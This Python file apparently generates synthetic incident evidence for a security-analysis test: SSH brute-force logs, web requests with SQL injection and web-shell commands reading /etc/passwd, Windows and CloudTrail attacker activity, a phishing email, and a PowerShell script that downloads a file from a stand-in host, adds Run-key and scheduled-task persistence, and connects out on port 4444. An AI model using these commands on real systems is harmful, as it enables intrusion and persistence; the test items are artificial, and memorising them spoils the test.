"""The evidence of the compound questions: seven kinds, each in two variants with the values of one half."""

from __future__ import annotations

import json
from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    """The names that one half's evidence contains."""

    outside: str
    inside: str
    account: str
    other: str
    new_account: str
    host: str
    domain: str
    day: str


OPEN = Case("203.0.113.23", "10.0.0.5", "deploy", "alice", "svc2", "web-3", "files.badcdn.example", "2026-11-20")
HELD = Case("198.51.100.77", "192.168.4.9", "backup", "carol", "helpd", "db-1", "cdn.dropzone.example", "2026-10-07")


def auth_log(case: Case) -> str:
    """Guessed passwords, a login that follows them, another from the inside, ``sudo`` and a new account."""
    day = "Nov 20" if case is OPEN else "Oct 07"
    tried = ["root", "root", "invalid user admin", case.account, case.account]
    lines = [
        f"{day} 03:10:{number:02} {case.host} sshd[10{number}]: "
        f"Failed password for {name} from {case.outside} port 400{number} ssh2"
        for number, name in enumerate(tried, start=1)
    ]
    lines += [
        f"{day} {at} {case.host} {what}"
        for at, what in (
            ("03:12:45", f"sshd[110]: Accepted password for {case.account} from {case.outside} port 4010 ssh2"),
            (
                "03:14:00",
                f"sudo:   {case.account} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
            ),
            ("03:15:00", f"useradd[130]: new user: name={case.new_account}, UID=1002, GID=1002, shell=/bin/bash"),
            (
                "08:00:00",
                f"sshd[120]: Accepted publickey for {case.other} from {case.inside} port 5000 ssh2: RSA SHA256:a",
            ),
        )
    ]
    return "\n".join(lines) + "\n"


def access_log(case: Case) -> str:
    """A scanner, an upload and calls of what was uploaded, a large download, and an ordinary visitor."""
    day = "20/Nov/2026" if case is OPEN else "07/Oct/2026"
    tool = "sqlmap/1.8" if case is OPEN else "Nikto/2.5.0"
    visits = [
        (case.inside, "GET /index.html", 200, 4_312, "Mozilla/5.0"),
        (case.outside, "GET /admin.php", 404, 210, tool),
        (case.outside, "GET /phpmyadmin/", 404, 210, tool),
        (case.outside, "GET /.git/config", 404, 210, tool),
        (case.outside, "GET /item.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", 200, 9_811, tool),
        (case.outside, "POST /upload.php", 200, 12, tool),
        (case.outside, "GET /uploads/up.php?cmd=whoami", 200, 24, tool),
        (case.outside, "GET /uploads/up.php?cmd=cat%20/etc/passwd", 200, 1_804, tool),
        (case.outside, "GET /backup/site.zip", 200, 52_428_800, tool),
    ]
    return "".join(
        f'{who} - - [{day}:03:10:{number:02} +0000] "{what} HTTP/1.1" {status} {size} "-" "{agent}"\n'
        for number, (who, what, status, size, agent) in enumerate(visits)
    )


def windows_events(case: Case) -> str:
    """Failed logons, one over RDP, an encoded command, a new account and service, and a cleared log."""
    subject = {"SubjectUserName": case.account, "SubjectDomainName": "CORP"}
    logon = {"TargetUserName": case.account, "IpAddress": case.outside, "LogonType": 10}
    events: list[tuple[int, str, dict[str, object]]] = [
        *[(4625, "Security", {**logon, "LogonType": 3, "SubStatus": "0xc000006a"}) for _ in range(3)],
        (4624, "Security", {**logon, **subject, "TargetLogonId": "0x51"}),
        (4688, "Security", {**subject, "NewProcessName": r"C:\Windows\whoami.exe", "CommandLine": "whoami /all"}),
        (4720, "Security", {**subject, "TargetUserName": case.new_account, "TargetDomainName": "CORP"}),
        (4732, "Security", {**subject, "TargetUserName": "Administrators", "MemberName": f"CN={case.new_account}"}),
        (7045, "System", {"ServiceName": "UpdSvc", "ImagePath": r"C:\Users\Public\upd.exe", "StartType": "auto start"}),
        (1102, "Security", dict(subject)),
    ]  # fmt: skip
    records = [
        {
            "EventID": number, "Channel": channel, "Computer": f"{case.host}.corp.example",
            "TimeCreated": f"{case.day}T03:10:{place * 5:02}Z",
            "Provider": "Service Control Manager" if channel == "System" else "Microsoft-Windows-Security-Auditing",
            "EventData": data,
        }
        for place, (number, channel, data) in enumerate(events)
    ]  # fmt: skip
    return "".join(json.dumps(record) + "\n" for record in records)


def cloudtrail(case: Case) -> str:
    """Buckets listed and read, a user and a key made, logging stopped, and a denied call."""
    who = {"type": "IAMUser", "userName": case.account, "accessKeyId": "AKIAIOSFODNN7EXAMPLE"}
    who["arn"] = f"arn:aws:iam::111122223333:user/{case.account}"
    calls: list[tuple[str, str, dict[str, object] | None, str]] = [
        ("s3", "ListBuckets", None, ""),
        ("s3", "GetObject", {"bucketName": "corp-payroll", "key": "2026/salaries.csv"}, ""),
        ("iam", "CreateUser", {"userName": case.new_account}, ""),
        ("iam", "CreateAccessKey", {"userName": case.new_account}, ""),
        ("cloudtrail", "StopLogging", {"name": "main-trail"}, ""),
        ("ec2", "RunInstances", {"instanceType": "p3.2xlarge"}, "Client.UnauthorizedOperation"),
    ]
    records = [
        {
            "eventVersion": "1.09", "userIdentity": who, "eventTime": f"{case.day}T03:0{number}:01Z",
            "eventSource": f"{service}.amazonaws.com", "eventName": name, "awsRegion": "eu-central-1",
            "sourceIPAddress": case.outside, "userAgent": "aws-cli/2.15", "requestParameters": given,
            "responseElements": None, "eventID": f"e{number}", "eventType": "AwsApiCall",
            "recipientAccountId": "111122223333", **({"errorCode": error} if error else {}),
        }
        for number, (service, name, given, error) in enumerate(calls)
    ]  # fmt: skip
    return json.dumps({"Records": records})


def mail(case: Case) -> str:
    """A sender that fails its checks, another address for replies, a link and an attachment."""
    return f"""\
Return-Path: <bounce@{case.domain}>
Received: from mx.{case.domain} (mx.{case.domain} [{case.outside}])
 by mail.corp.example with ESMTP; Fri, 20 Nov 2026 03:10:00 +0000
Authentication-Results: mail.corp.example; spf=fail smtp.mailfrom={case.domain};
 dkim=none; dmarc=fail header.from=bank.example
From: "Bank Security" <alerts@bank.example>
Reply-To: help@{case.domain}
To: {case.account}@corp.example
Subject: Urgent: verify your account
Date: Fri, 20 Nov 2026 03:09:58 +0000
Message-ID: <1@{case.domain}>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/html; charset=utf-8

<p>Verify now: <a href="http://{case.domain}/verify">https://bank.example/login</a></p>

--b
Content-Type: application/octet-stream; name="statement.pdf.js"
Content-Disposition: attachment; filename="statement.pdf.js"
Content-Transfer-Encoding: base64

dmFyIGEgPSAxOwo=
--b--
"""


def script(case: Case) -> str:
    """Fetches a file, writes it, and registers it to be started; it names nothing that exists."""
    return f"""\
$u = "http://{case.domain}/tool.bin"
$p = "$env:TEMP\\tool.bin"
Invoke-WebRequest -Uri $u -OutFile $p
New-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name "Upd" -Value $p
schtasks /create /tn "UpdTask" /tr $p /sc minute /mo 30
$c = New-Object System.Net.Sockets.TcpClient("{case.outside}", 4444)
"""


def connections(case: Case) -> str:
    """Many ports of one host tried, a large upload, and ordinary traffic."""
    rows = [
        ("09:00:01", case.inside, "10.9.0.2", 443, 2_100, 9_000),
        ("09:00:05", "10.9.0.7", "192.0.2.44", 443, 800, 4_100),
    ]
    rows += [(f"09:01:{port % 60:02}", case.inside, "10.9.0.2", port, 60, 0) for port in range(20, 45)]
    rows += [("09:05:00", case.inside, case.outside, 8443, 734_003_200, 1_200)]
    table = "".join(
        f"{case.day}T{at}Z,{source},{target},{port},tcp,{sent},{received}\n"
        for at, source, target, port, sent, received in rows
    )
    return "timestamp,src_ip,dst_ip,dst_port,proto,bytes_out,bytes_in\n" + table


MADE = {
    "auth.log": auth_log, "access.log": access_log, "security.json": windows_events, "cloudtrail.json": cloudtrail,
    "mail.eml": mail, "update.ps1": script, "conns.csv": connections,
}  # fmt: skip
